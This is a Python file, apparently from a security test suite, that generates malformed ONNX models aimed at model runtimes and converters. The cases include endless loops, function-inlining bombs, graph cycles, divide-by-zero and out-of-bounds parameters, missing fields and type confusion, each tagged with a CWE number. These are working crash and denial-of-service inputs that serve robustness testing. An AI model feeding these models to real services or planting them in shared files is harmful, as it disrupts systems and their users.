"""Endless execution, inlining and walks of models, and structures, parameters and types that crash runtimes."""
# fmt: off

from __future__ import annotations

from .case import declare
from .writer import (
    BOOL,
    FLOAT,
    INT32,
    INT64,
    STRING,
    UINT8,
    Graph,
    Tensor,
    X,
    Y,
    function,
    graph,
    integer,
    integers,
    ints,
    model,
    model_with_extras,
    network,
    node,
    record,
    scalar,
    strings,
    tensor,
    tensor_type,
    typed,
    value,
    values,
)

RUNTIMES = "onnxruntime, onnx.reference, OpenVINO, constant folders"
MAX_INT64 = (1 << 63) - 1
INLINING_READERS = "onnxruntime, onnx, inliners"
OPSETS = (("", 21), ("local", 1))


def loop_body(nodes=(), condition="c", extra_inputs=(), extra_outputs=(), initializers=()):
    """Return a Loop body whose condition output is the value named `condition`, by default its condition input."""
    inputs = [value("i", INT64, []), value("c", BOOL, []), *extra_inputs]
    nodes = [*nodes, node("Identity", [condition], ["c2"])]
    return graph(nodes, inputs, [value("c2", BOOL, []), *extra_outputs], initializers, name="body")


def loop(trip="n", condition="", body=None, state="x", output="y"):
    """Return a Loop with one state variable.

    trip, condition, state: the names of its inputs. output: the name of its output. body: by default, an iteration
    doubles the state.
    """
    if body is None:
        body = loop_body([node("Add", ["v", "v"], ["v2"])], "c", [value("v", FLOAT, [4])], [value("v2", FLOAT, [4])])
    return node("Loop", [trip, condition, state], [output], body=body)


TRUE = scalar("t", True, BOOL)

attack = declare("endless-loop", "resources", "A Loop or Scan does not end in reasonable time.", "CWE-835", RUNTIMES)
attack("trip-count-max", "Loop with a trip count of 2^63 - 1.", network([loop()], [scalar("n", MAX_INT64)]))
attack("no-trip-count", "Loop without a trip count, whose condition stays true.", network([loop("", "t")], [TRUE]))
attack("no-trip-count-no-condition", "Loop without a trip count and without a condition.", network([loop("", "")]))
attack("condition-constant-in-body", "The body returns a constant true as its condition.", network([loop("", "t",
    loop_body([node("Constant", [], ["always"], value=scalar(None, True, BOOL)), node("Add", ["v", "v"], ["v2"])],
    "always", [value("v", FLOAT, [4])], [value("v2", FLOAT, [4])]))], [TRUE]))
attack("condition-computed", "The body's condition is i == i, which is always true.", network([loop("", "t",
    loop_body([node("Equal", ["i", "i"], ["same"]), node("Add", ["v", "v"], ["v2"])], "same", [value("v", FLOAT,
    [4])], [value("v2", FLOAT, [4])]))], [TRUE]))
attack("condition-never-false", "The body's condition is i >= 0.", network([loop("", "t",
    loop_body([node("GreaterOrEqual", ["i", "zero"], ["ok"]), node("Add", ["v", "v"], ["v2"])], "ok", [value("v",
    FLOAT, [4])], [value("v2", FLOAT, [4])], [scalar("zero", 0)]))], [TRUE]))
attack("trip-count-computed", "The trip count is a product of constants, 10^12.", network([node("Mul", ["m", "m"],
    ["n"]), loop()], [scalar("m", 1000000)]))
attack("trip-count-constant-node", "The trip count, 2^40, is in a Constant node.", network([node("Constant", [],
    ["n"], value_int=1 << 40), loop()]))
MIDDLE_BODY = loop_body([loop("n", "", None, "v", "v2")], "c", [value("v", FLOAT, [4])], [value("v2", FLOAT, [4])])
attack("nested-loops", "Three nested Loops of 100,000 iterations each: 10^15.", network([loop("n", "",
    loop_body([loop("n", "", MIDDLE_BODY, "v", "v2")], "c", [value("v", FLOAT, [4])], [value("v2", FLOAT, [4])]))],
    [scalar("n", 100000)]))
attack("collect-outputs", "Loop of 2^40 iterations that collects an output in each: memory grows without end.",
    network([node("Loop", ["n", ""], ["o"], body=loop_body([node("Cast", ["i"], ["f"], to=FLOAT)], "c", (),
    [value("f", FLOAT, [])])), node("ReduceSum", ["o"], ["y"], keepdims=0)], [scalar("n", 1 << 40)]))
attack("in-function", "An endless Loop in the body of a function.", network([node("F", ["x"], ["y"], domain="local")],
    opsets=OPSETS, functions=[function("F", [node("Constant", [], ["n"], value_int=MAX_INT64), loop("n", "", None, "a",
    "b")], ["a"], ["b"])]))
attack("in-branch", "An endless Loop in a branch that is always taken.", network([node("If", ["t"], ["y"],
    then_branch=graph([loop("n", "", None, "x", "r")], [], [value("r")]), else_branch=graph([node("Identity", ["x"],
    ["q"])], [], [value("q")]))], [TRUE, scalar("n", MAX_INT64)]))
attack("scan-long", "Scan over 2^33 elements that Expand makes.", network([node("Expand", ["one", "s"], ["seq"]),
    node("Scan", ["seq"], ["o"], num_scan_inputs=1, body=graph([node("Neg", ["e"], ["z"])], [value("e", FLOAT, [])],
    [value("z", FLOAT, [])])), node("ReduceSum", ["o"], ["y"], keepdims=0)], [values("one", [1.0]), ints("s",
    1 << 33)]))
attack("sequence-append", "A Loop appends to a sequence 2^40 times.", network([node("SequenceEmpty",
    [], ["q0"]), node("Loop", ["n", "", "q0"], ["q"], body=graph([node("SequenceInsert", ["s", "x"], ["s2"]),
    node("Identity", ["c"], ["c2"])], [value("i", INT64, []), value("c", BOOL, []), typed("s", record(4, record(1,
    tensor_type())))], [value("c2", BOOL, []), typed("s2", record(4, record(1, tensor_type())))])),
    node("SequenceLength", ["q"], ["k"]), node("Cast", ["k"], ["y"], to=FLOAT)], [scalar("n", 1 << 40)], rank=0))
attack("scan-of-loops", "Scan whose body is a Loop of 2^32 iterations.", network([node("Scan", ["x"], ["y"],
    num_scan_inputs=1, body=graph([node("Loop", ["n", "", "e"], ["z"], body=loop_body([node("Neg", ["v"], ["v2"])],
    "c", [value("v", FLOAT, [])], [value("v2", FLOAT, [])]))], [value("e", FLOAT, [])], [value("z", FLOAT, [])]))],
    [scalar("n", 1 << 32)], outputs=[Y]))

# Functions

attack = declare("function-bomb", "resources",
    "Functions call each other so often, or so deeply, that inlining does not end.", "CWE-674", INLINING_READERS)


def function_with_calls(name, callee, times):
    """Return a function of `times` nodes that call `callee`, each with the output of the node before."""
    steps = [node(callee, [f"v{i}" if i else "a"], [f"v{i + 1}" if i + 1 < times else "b"],
        domain="local") for i in range(times)]
    return function(name, steps, ["a"], ["b"], opsets=OPSETS)


LEAF = function("F0", [node("Neg", ["a"], ["b"])], ["a"], ["b"])


def model_with_call(name, functions):
    """Return a model that calls a function."""
    return network([node(name, ["x"], ["y"], domain="local")], opsets=OPSETS, functions=functions)


attack("exponential", "40 functions, each of which calls the one before twice: 2^40 nodes.", model_with_call("F40",
    [LEAF] + [function_with_calls(f"F{i}", f"F{i - 1}", 2) for i in range(1, 41)]))
attack("exponential-ten", "12 functions, each of which calls the one before ten times.", model_with_call("F12",
    [LEAF] + [function_with_calls(f"F{i}", f"F{i - 1}", 10) for i in range(1, 13)]))
attack("exponential-branches", "30 functions whose If branches both call the one before.", model_with_call("F30",
    [LEAF] + [function(f"F{i}", [node("Constant", [], ["c"], value=scalar(None, True, BOOL)), node("If", ["c"], ["b"],
    then_branch=graph([node(f"F{i - 1}", ["a"], ["p"], domain="local")], [], [value("p")]),
    else_branch=graph([node(f"F{i - 1}", ["a"], ["q"], domain="local")], [], [value("q")]))], ["a"], ["b"],
    opsets=OPSETS) for i in range(1, 31)]))
attack("wide", "Four functions of 300 calls each: 8.1 billion nodes.", model_with_call("F4", [LEAF] + [
    function_with_calls(f"F{i}", f"F{i - 1}", 300) for i in range(1, 5)]))
attack("self-recursion", "A function calls itself.", model_with_call("F0", [function_with_calls("F0", "F0", 1)]))
attack("mutual-recursion", "Two functions call each other.", model_with_call("F0", [function_with_calls("F0", "F1", 1),
    function_with_calls("F1", "F0", 1)]))
attack("recursion-of-three", "Three functions call each other in a circle; the last call is in a branch.",
    model_with_call("F0", [function_with_calls("F0", "F1", 1), function_with_calls("F1", "F2", 1), function("F2", [node(
    "Constant", [], ["c"], value=scalar(None, True, BOOL)), node("If", ["c"], ["b"], then_branch=graph([node("F0", [
    "a"], ["p"], domain="local")], [], [value("p")]), else_branch=graph([node("Identity", ["a"], ["q"])], [], [value(
    "q")]))], ["a"], ["b"], opsets=OPSETS)]))
attack("recursion-unused", "A recursive function that the graph does not call.", model_with_extras(opsets=OPSETS,
    functions=[function_with_calls("F0", "F0", 1)]))
attack("recursion-of-overloads", "Two overloads of one function call each other.", network([node("F", ["x"], ["y"],
    domain="local", extra=record(8, "a"))], opsets=OPSETS, functions=[function("F", [node("F", ["a"], ["b"],
    domain="local", extra=record(8, callee))], ["a"], ["b"], opsets=OPSETS, extra=record(13, caller)) for caller,
    callee in (("a", "b"), ("b", "a"))]))
attack("chain", "3,000 functions, each of which calls the one before: depth instead of size.", model_with_call("F3000",
    [LEAF] + [function_with_calls(f"F{i}", f"F{i - 1}", 1) for i in range(1, 3001)]))
attack("shadow-recursion", "A function named Relu in the default domain calls Relu.", network([node("Relu", ["x"],
    ["y"])], functions=[function("Relu", [node("Relu", ["a"], ["b"])], ["a"], ["b"], "")]))

# Cycles of nodes

attack = declare("graph-cycle", "resources", "Nodes depend on each other in a circle: walks and sorts do not end.",
    "CWE-835", "naive graph walkers, converters")
attack("self", "A node has its own output as an input.", network([node("Add", ["x", "y"], ["y"])]))
attack("two-nodes", "Two nodes have each other's output as an input.", network([node("Add", ["x", "b"], ["a"]),
    node("Neg", ["a"], ["b"]), node("Identity", ["b"], ["y"])]))
attack("through-branch", "A branch of an If captures the output of that If.", network([node("If", ["t"], ["y"],
    then_branch=graph([node("Identity", ["y"], ["a"])], [], [value("a")]), else_branch=graph([node("Identity", ["x"],
    ["b"])], [], [value("b")]))], [TRUE]))
attack("long", "A circle of 2,000 nodes.", network([node("Neg", [f"v{(i + 1) % 2000}"],
    [f"v{i}"]) for i in range(2000)] + [node("Identity", ["v0"], ["y"])]))
attack("in-function", "Two nodes of a function have each other's output as an input.", model_with_call("F0",
    [function("F0", [node("Add", ["a", "d"], ["c"]), node("Neg", ["c"], ["d"]), node("Identity", ["d"], ["b"])], ["a"],
    ["b"])]))

# Parameters that crash kernels

attack = declare("arithmetic-trap", "crashes",
    "A parameter or an input makes a kernel divide by zero, overflow, shift too far, or index beyond its buffers.",
    "CWE-369", "onnxruntime, onnx, TVM, OpenVINO")
IMAGE = [value("x", FLOAT, [1, 2, 4, 4])]
KERNEL = values("k", [1.0] * 4, FLOAT, [2, 2, 1, 1])
INTS = [value("x", INT32, [4])]
INT_Y = [value("y", INT32, [None])]


def trap_attack(name, description, nodes, initializers=(), inputs=IMAGE, outputs=None, **options):
    """Add an attack whose nodes have an input or attribute that can crash a kernel."""
    attack(name, description, network(nodes, initializers, inputs=inputs, outputs=outputs), **options)


def int32(name, *numbers):
    """Return an int32 vector."""
    return values(name, numbers, INT32)


trap_attack("integer-division", "Div of int32 by a constant zero (SIGFPE in onnxruntime before 1.26).", [node("Div", [
    "x", "z"], ["y"])], [int32("z", 0)], INTS, INT_Y, source="https://github.com/microsoft/onnxruntime/pull/27693")
trap_attack("integer-modulo", "Mod of int32 by a constant zero.", [node("Mod", ["x", "z"], ["y"])], [int32("z", 0)],
    INTS, INT_Y, source="https://github.com/microsoft/onnxruntime/pull/27833")
trap_attack("smallest-by-minus-one", "Div of -2^31 by -1 overflows, which is a trap on x86.", [node("Div", ["a", "b"],
    ["y"])], [int32("a", -(1 << 31)), int32("b", -1)], INTS, INT_Y, cwe="CWE-190")
trap_attack("division-by-input", "Div by x - x.", [node("Sub", ["x", "x"], ["z"]), node("Div", ["x", "z"], ["y"])], [],
    INTS, INT_Y)
trap_attack("conv-group-zero", "Conv with group 0.", [node("Conv", ["x", "k"], ["y"], group=0)], [KERNEL])
trap_attack("conv-stride-zero", "Conv with strides of 0.", [node("Conv", ["x", "k"], ["y"], strides=[0, 0])], [KERNEL])
trap_attack("conv-negative-pads", "Conv with pads of -100.", [node("Conv", ["x", "k"], ["y"], pads=[-100] * 4)], [
    KERNEL], cwe="CWE-191")
trap_attack("conv-rank-mismatch", "Conv of a rank 4 input and a rank 5 kernel (crash in onnx 1.16 shape inference).",
    [node("Conv", ["x", "k"], ["y"])], [values("k", [1.0] * 2, FLOAT, [1, 2, 1, 1, 1])], cwe="CWE-125",
    source="https://github.com/onnx/onnx/issues/6180")
trap_attack("pool-kernel-zero", "MaxPool with a kernel of 0 x 0.", [node("MaxPool", ["x"], ["y"], kernel_shape=[0, 0])])
trap_attack("pool-dilation-huge", "MaxPool with dilations of 2^62: the product overflows.", [node("MaxPool", ["x"], [
    "y"], kernel_shape=[3, 3], dilations=[1 << 62, 1 << 62])], cwe="CWE-190")
trap_attack("depth-to-space-zero", "DepthToSpace with a block size of 0.", [node("DepthToSpace", ["x"], ["y"],
    blocksize=0)])
trap_attack("space-to-depth-zero", "SpaceToDepth with a block size of 0.", [node("SpaceToDepth", ["x"], ["y"],
    blocksize=0)])
trap_attack("split-zero-outputs", "Split with num_outputs 0.", [node("Split", ["x"], ["y"], num_outputs=0)])
trap_attack("group-norm-zero", "GroupNormalization with 0 groups.", [node("GroupNormalization", ["x", "s", "s"], ["y"],
    num_groups=0)], [values("s", [1.0, 1.0])])
trap_attack("lrn-size-negative", "LRN with a size of -3.", [node("LRN", ["x"], ["y"], size=-3)], cwe="CWE-191")
trap_attack("lrn-size-huge", "LRN with a size of 2^62 (integer overflow in onnxruntime before 1.26).", [node("LRN", [
    "x"], ["y"], size=1 << 62)], cwe="CWE-190", source="https://github.com/microsoft/onnxruntime/pull/27886")
trap_attack("shift-too-far", "BitShift of uint8 by 200.", [node("BitShift", ["a", "b"], ["c"], direction="LEFT"),
    node("Cast", ["c"], ["y"], to=FLOAT)], [values("a", [1], UINT8), values("b", [200], UINT8)], outputs=[value("y",
    FLOAT, [1])], cwe="CWE-758")
trap_attack("quantize-block-negative", "QuantizeLinear with a negative block size.", [node("QuantizeLinear", ["x",
    "s"], ["q"], block_size=-1), node("DequantizeLinear", ["q", "s"], ["y"])], [values("s", [1.0], FLOAT, [1, 1, 1,
    1])])
trap_attack("resize-scale-zero", "Resize with scales of 0.", [node("Resize", ["x", "", "f"], ["y"])], [values("f", [1.0,
    1.0, 0.0, 0.0])])
trap_attack("resize-scale-nan", "Resize with scales of NaN and infinity.", [node("Resize", ["x", "", "f"], ["y"])],
    [values("f", [1.0, 1.0, float("nan"), float("inf")])], cwe="CWE-681")
trap_attack("lstm-negative-hidden", "LSTM with a hidden size of -1.", [node("LSTM", ["s", "w", "w"], ["y"],
    hidden_size=-1)], [values("s", [1.0], FLOAT, [1, 1, 1]), values("w", [1.0] * 4, FLOAT, [1, 4, 1])], cwe="CWE-191")
trap_attack("cast-nan-to-integer", "Cast of NaN and 1e30 to int32, which is undefined: runtimes give different values.",
    [node("Cast", ["a"], ["y"], to=INT32)], [values("a", [float("nan"), 1e30])], outputs=INT_Y, cwe="CWE-758")
trap_attack("einsum-malformed", "Einsum whose equation has more terms than inputs.", [node("Einsum", ["x"], ["y"],
    equation="ijkl,mn,,,->")], cwe="CWE-125", source="https://github.com/microsoft/onnxruntime/issues/24806")
trap_attack("transpose-perm-repeated", "Transpose with perm 0, 0, 0, 0.", [node("Transpose", ["x"], ["y"], perm=[0, 0,
    0, 0])], cwe="CWE-125")
trap_attack("reduce-axis-outside", "ReduceSum with axis 1,000.", [node("ReduceSum", ["x", "a"], ["y"])], [ints("a",
    1000)], cwe="CWE-125")
trap_attack("concat-axis-outside", "Concat with axis -1,000.", [node("Concat", ["x", "x"], ["y"], axis=-1000)],
    cwe="CWE-125")
trap_attack("split-sum", "Split sizes are 1, -5 and 8: they add up to the dimension of 4.", [node("Split", ["x", "s"], [
    "y", "p", "q"], axis=3)], [ints("s", 1, -5, 8)], cwe="CWE-125", source="https://github.com/onnx/onnx/issues/8278")
trap_attack("slice-step-zero", "Slice with a step of 0.", [node("Slice", ["x", "a", "b", "c", "d"], ["y"])], [ints("a",
    0), ints("b", 4), ints("c", 3), ints("d", 0)])
trap_attack("top-k-huge", "TopK with k = 2^62.", [node("TopK", ["x", "k"], ["y", "i"])], [ints("k", 1 << 62)],
    cwe="CWE-125")

# Missing parts

attack = declare("missing-field", "crashes",
    "A part that readers expect is absent or unsupported: readers use null pointers or default values.", "CWE-476",
    "onnx, onnxruntime, Netron, converters")
attack("no-graph", "A model without a graph.", model(None))
attack("empty-graph", "A graph without any content.", model(Graph(b"")))
attack("no-opset", "A model without operator sets.", network([node("Identity", ["x"], ["y"])], opsets=()))
attack("no-ir-version", "A model without ir_version.", network([node("Identity", ["x"], ["y"])], ir_version=None))
attack("future-ir-version", "ir_version is 2^31 - 1.", network([node("Identity", ["x"], ["y"])],
    ir_version=(1 << 31) - 1))
attack("future-opset", "Operator set 999.", network([node("Identity", ["x"], ["y"])], opsets=(("", 999),)))
attack("no-op-type", "A node without op_type.", network([record(1, "x") + record(2, "y")]))
attack("if-without-branches", "An If without branches.", network([node("If", ["t"], ["y"])], [TRUE]))
attack("empty-branch", "An If whose branches are empty graphs.", network([node("If", ["t"], ["y"],
    then_branch=Graph(b""), else_branch=Graph(b""))], [TRUE]))
attack("loop-without-body", "A Loop without a body.", network([node("Loop", ["n", "", "x"], ["y"])], [scalar("n", 3)]))
attack("loop-empty-body", "A Loop whose body has no inputs and outputs.", network([node("Loop", ["n", "", "x"], ["y"],
    body=Graph(b""))], [scalar("n", 3)]))
attack("scan-without-count", "A Scan without num_scan_inputs.", network([node("Scan", ["x"], ["y"],
    body=graph([node("Neg", ["e"], ["z"])], [value("e")], [value("z")]))]))
attack("scan-count-huge", "A Scan with num_scan_inputs of 1,000 and one input.", network([node("Scan", ["x"], ["y"],
    num_scan_inputs=1000, body=graph([node("Neg", ["e"], ["z"])], [value("e")], [value("z")]))]))
attack("attribute-without-name", "An attribute without a name.", network([node("Softmax", ["x"], ["y"],
    extra=record(5, integer(3, 0) + integer(20, 2)))]))
attack("attribute-without-value", "An attribute of type TENSOR without t.", network([node("Constant", [], ["y"],
    extra=record(5, record(1, "value") + integer(20, 4)))]))
attack("attribute-empty-tensor", "A Constant whose tensor is empty: no type, no data.", network([node("Constant", [],
    ["y"], value=Tensor(b""))]))
attack("input-without-type", "An input without a type.", network([node("Identity", ["x"], ["y"])], inputs=[record(1,
    "x")]))
attack("input-empty-type", "An input whose type is an empty message.", network([node("Identity", ["x"], ["y"])],
    inputs=[typed("x", b"")]))
attack("sequence-without-element", "An input of a sequence type without an element type.",
    network([node("SequenceLength", ["q"], ["n"])], inputs=[typed("q", record(4, b""))], outputs=[value("n", INT64)]))
attack("output-nowhere", "No node produces the output of the graph.", network([node("Identity", ["x"], ["z"])]))
attack("undefined-input", "A node has an input that does not exist.", network([node("Add", ["x", "ghost"], ["y"])]))
attack("sparse-without-indices", "A sparse initializer without indices.", model_with_extras(sparse=[record(1, values(
    "sp", [1.0])) + integer(3, 4)]))
attack("required-input-missing", "Conv without inputs.", network([node("Conv", [], ["y"])]))
attack("required-output-missing", "A node without outputs, whose kernel writes its first output.",
    network([node("Neg", ["x"], []), node("Identity", ["x"], ["y"])]))
attack("custom-type-to-one-hot-encoder",
    "The input of OneHotEncoder has no inferred type (crash in onnx 1.19 shape inference).",
    network([node("CustomIdentity", ["x"], ["v"], domain="custom"), node("OneHotEncoder", ["v"], ["y"],
    domain="ai.onnx.ml", cats_int64s=[1, 2, 3])], opsets=(("", 21), ("custom", 1), ("ai.onnx.ml", 3))),
    source="https://github.com/onnx/onnx/issues/7298")
attack("function-without-name", "A function without name, domain and opsets.", model_with_extras(functions=[b""]))
attack("initializer-without-type", "An initializer without data_type and name.", model_with_extras([integers(1, [
    4]) + record(9, bytes(16))]))
attack("assert-attribute-count",
    "A Loop body with one output too few for its state (onnx before 1.16 reads beyond the text of the assertion).",
    network([node("Loop", ["n", "", "x"], ["y"], body=graph([node("Identity", ["c"], ["c2"])], [value("i", INT64, []),
    value("c", BOOL, []), value("v", FLOAT, [4])], [value("c2", BOOL, [])]))], [scalar("n", 2)]), cwe="CWE-125")

attack = declare("type-confusion", "crashes",
    "The declared type or shape of a value is unknown or not that of its data: a runtime may read pointers as numbers.",
    "CWE-843", "onnxruntime, onnx, converters")
attack("string-with-raw",
    "A string initializer with raw_data: bytes that a careless reader takes for string objects.",
    network([node("Identity", ["s"], ["y"])], [tensor("s", [2], STRING, b"A" * 64)], outputs=[value("y", STRING,
    [None])]))
attack("string-with-floats", "A string initializer with float_data.", network([node("Identity", ["s"], ["y"])],
    [tensor("s", [4], STRING, None, record(4, bytes(16)))], outputs=[value("y", STRING, [None])]))
attack("string-external", "A string initializer with external data.", network([node("Identity", ["s"], ["y"])],
    [tensor("s", [2], STRING, None, record(13, record(1, "location") + record(2, "str.bin")) + integer(14, 1))],
    outputs=[value("y", STRING, [None])]), files={"str.bin": b"A" * 64})
attack("default-of-other-type", "An input of type string has an initializer of type float.",
    model(graph([node("Identity", ["s"], ["y"])], [value("s", STRING, [4])], [value("y", STRING, [4])], [values("s",
    [1.0] * 4)])))
attack("output-of-other-type", "The output is declared as string, the node makes floats.", network([node("Neg", ["x"],
    ["y"])], outputs=[value("y", STRING, [4])]))
attack("value-info-of-other-type", "value_info declares an intermediate float as string.", model(graph([node("Neg",
    ["x"], ["v"]), node("Neg", ["v"], ["y"])], [X], [Y], value_infos=[value("v", STRING, [4])])))
attack("element-type-unknown", "An input with elem_type 999.", network([node("Identity", ["x"], ["y"])],
    inputs=[value("x", 999, [4])]))
attack("initializer-type-unknown", "An initializer with data_type 999.", model_with_extras([tensor("o", [4], 999, bytes(
    16))]))
attack("initializer-type-undefined", "An initializer with data_type 0.", model_with_extras([tensor("o", [4], 0, bytes(
    16))]))
attack("cast-to-unknown", "Cast to type 999.", network([node("Cast", ["x"], ["y"], to=999)]))
attack("cast-to-truncated", "Cast to type 2^32 + 1: float to a reader that truncates.", network([node("Cast", ["x"],
    ["y"], to=(1 << 32) + 1)]))
attack("sequence-op-on-tensor", "SequenceAt of a tensor.", network([node("SequenceAt", ["x", "i"], ["y"])],
    [scalar("i", 0)]))
attack("branches-of-two-types", "The branches of an If return a string and a float.", network([node("If", ["t"],
    ["y"], then_branch=graph([node("Identity", ["s"], ["a"])], [], [value("a", STRING)]),
    else_branch=graph([node("Identity", ["x"], ["b"])], [], [value("b")]))], [TRUE, strings("s", ["A" * 40])]))
attack("loop-state-changes-type", "The state of a Loop goes in as float and comes out as string.",
    network([node("Loop", ["n", "", "x"], ["y"], body=graph([node("Identity", ["c"], ["c2"]), node("Cast", ["v"],
    ["v2"], to=STRING)], [value("i", INT64, []), value("c", BOOL, []), value("v", FLOAT, [4])], [value("c2", BOOL,
    []), value("v2", FLOAT, [4])]))], [scalar("n", 2)]))
attack("shape-lie", "The output shape is declared as [1], the real one is [4]: callers allocate too little.",
    network([node("Neg", ["x"], ["y"])], outputs=[value("y", FLOAT, [1])]), cwe="CWE-787")
attack("optional-of-tensor", "OptionalGetElement of an optional of an optional, with a tensor declared as the result.",
    network([node("OptionalGetElement", ["o"], ["y"])], inputs=[typed("o", record(9, record(1, record(9, record(1,
    tensor_type())))))]))
